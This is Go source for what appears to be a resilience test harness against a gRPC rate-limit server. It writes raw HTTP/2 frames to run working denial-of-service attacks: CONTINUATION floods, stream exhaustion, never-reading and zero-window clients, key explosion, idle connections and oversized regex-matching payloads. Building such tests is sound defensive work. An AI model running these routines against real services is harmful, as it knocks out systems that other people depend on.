package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	ratelimitv3 "github.com/envoyproxy/go-control-plane/envoy/service/ratelimit/v3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"
)

// client sends HTTP/2 frames without a library, so that it can break the protocol's rules.
type client struct {
	net.Conn
	stream uint32
	block  []byte // the header block of a call
	out    bytes.Buffer
	framer *http2.Framer // to out
}

// habits are what a client does besides its attack. The zero value reads everything and opens its windows wide.
type habits struct {
	mute       bool // reads nothing
	zeroWindow bool // never lets the server send DATA on a stream
	elsewhere  bool // has an address that the victim does not share
}

// connect makes a connection that ends with ctx, from an address that the victim does not share if it is from elsewhere.
func connect(ctx context.Context, at string, elsewhere bool) (net.Conn, error) {
	var d net.Dialer
	if elsewhere {
		d.LocalAddr = &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}
	}
	conn, err := d.DialContext(ctx, "tcp", at)
	if err != nil {
		return nil, err
	}
	if until, ok := ctx.Deadline(); ok {
		_ = conn.SetDeadline(until)
	}
	return conn, nil
}

// open connects. It reads and discards what the server sends, unless mute.
func open(ctx context.Context, at string, h habits) (*client, error) {
	conn, err := connect(ctx, at, h.elsewhere)
	if err != nil {
		return nil, err
	}
	c := &client{Conn: conn}
	c.out.WriteString(http2.ClientPreface)
	c.framer = http2.NewFramer(&c.out, nil)
	c.framer.AllowIllegalWrites = true
	window := uint32(1<<31 - 1)
	if h.zeroWindow {
		window = 0
	}
	_ = c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	_ = c.framer.WriteWindowUpdate(0, 1<<30)
	c.block = headerBlock()
	if !h.mute {
		go func() { _, _ = io.Copy(io.Discard, conn) }()
	}
	return c, c.flush()
}

// headerBlock is the header block of a call, with more fields at its end. Nothing of it is indexed, so that it can be sent
// again.
func headerBlock(more ...[2]string) []byte {
	return headerBlockOf(ratelimitv3.RateLimitService_ShouldRateLimit_FullMethodName, more...)
}

// headerBlockOf is the header block of a call of some method.
func headerBlockOf(path string, more ...[2]string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, h := range append([][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", "x"}, {"content-type", "application/grpc"},
	}, more...) {
		_ = encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1], Sensitive: true})
	}
	return block.Bytes()
}

func (c *client) flush() error {
	_, err := c.out.WriteTo(c.Conn)
	return err
}

// begin writes the headers of the next call into the buffer.
func (c *client) begin() {
	if c.stream == 0 {
		c.stream = 1
	} else {
		c.stream += 2
	}
	block := c.block
	first := block[:min(len(block), mostOfFrame)]
	block = block[len(first):]
	_ = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: first, EndHeaders: len(block) == 0})
	for len(block) > 0 {
		part := block[:min(len(block), mostOfFrame)]
		block = block[len(part):]
		_ = c.framer.WriteContinuation(c.stream, len(block) == 0, part)
	}
}

// mostOfFrame is the largest payload of a frame.
const mostOfFrame = 16 << 10

// send writes the message of the call into the buffer.
func (c *client) send(message []byte) {
	c.sendPart(len(message), message, true)
}

// sendPart writes the beginning of the call's message into the buffer. The length prefix of the message says claimed.
func (c *client) sendPart(claimed int, part []byte, end bool) {
	data := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(claimed)), part...)
	for len(data) > mostOfFrame {
		_ = c.framer.WriteData(c.stream, false, data[:mostOfFrame])
		data = data[mostOfFrame:]
	}
	_ = c.framer.WriteData(c.stream, end, data)
}

// several runs an attack on several connections until ctx is done. It reopens each connection that the server closes.
func several(ctx context.Context, at string, n int, h habits, do func(c *client) error) error {
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for ctx.Err() == nil {
				c, err := open(ctx, at, h)
				if err == nil {
					for err == nil && ctx.Err() == nil && c.stream < 1<<30 {
						if err = do(c); err == nil {
							err = c.flush()
						}
					}
					_ = c.Close()
				}
				wait(ctx, 10*time.Millisecond)
			}
		})
	}
	all.Wait()
	return nil
}

// openStreams opens the same number of calls on each connection and keeps them open without sending a message.
func openStreams(ctx context.Context, at string, connections, calls int) error {
	return several(ctx, at, connections, habits{}, func(c *client) error {
		if int(c.stream/2) >= calls {
			wait(ctx, time.Second)
			return nil
		}
		for range 500 {
			c.begin()
		}
		return nil
	})
}

func message(pairs ...string) []byte {
	b, err := proto.Marshal(request("attack", pairs...))
	if err != nil {
		panic(err) // of a message that we made
	}
	return b
}

func neverRead(ctx context.Context, at string, _ bool) error {
	m := message("key", "one")
	return several(ctx, at, 1, habits{mute: true}, func(c *client) error { return c.batch(m) })
}

func flood(ctx context.Context, at string, _ bool) error {
	m := message("key", "one")
	return several(ctx, at, 8, habits{}, func(c *client) error { return c.batch(m) })
}

func (c *client) batch(message []byte) error {
	for range 100 {
		c.begin()
		c.send(message)
	}
	return nil
}

// newKeys makes calls that each need a counter of their own.
func newKeys(ctx context.Context, at string, _ bool) error {
	var n atomic.Int64
	return several(ctx, at, 8, habits{}, func(c *client) error {
		for range 20 {
			c.begin()
			c.send(message("key", fmt.Sprintf("%012d", n.Add(1))))
		}
		return nil
	})
}

// idle opens connections without calls, which answer pings. It reopens each connection that the server closes.
func idle(ctx context.Context, at string, n int) error {
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for ctx.Err() == nil {
				if c, err := open(ctx, at, habits{mute: true, elsewhere: true}); err == nil {
					from := http2.NewFramer(nil, c.Conn)
					for {
						f, err := from.ReadFrame()
						if err != nil {
							break
						}
						if p, ok := f.(*http2.PingFrame); ok && !p.IsAck() {
							_ = c.framer.WritePing(true, p.Data)
							_ = c.flush()
						}
					}
					_ = c.Close()
				}
				wait(ctx, time.Second)
			}
		})
	}
	all.Wait()
	return nil
}

func continuation(ctx context.Context, at string, _ bool) error {
	return several(ctx, at, 8, habits{}, func(c *client) error {
		if c.stream == 0 {
			c.stream = 1
			_ = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: c.block})
		}
		for range 1_000 {
			_ = c.framer.WriteContinuation(c.stream, false, nil)
		}
		return nil
	})
}

// regex sends calls of 3.8 MB, each with values of 8 KB that expressions are matched against.
func regex(ctx context.Context, at string, _ bool) error {
	value := strings.Repeat("/segment", 1024)
	r := request("attack")
	r.Descriptors = nil
	for i := range 240 {
		r.Descriptors = append(r.Descriptors, request("attack", "path", fmt.Sprint(value, i), "more", value).Descriptors...)
	}
	m, err := proto.Marshal(r)
	if err != nil {
		return fmt.Errorf("encode: %w", err)
	}
	return several(ctx, at, 1, habits{}, func(c *client) error {
		c.begin()
		c.send(m)
		return nil
	})
}
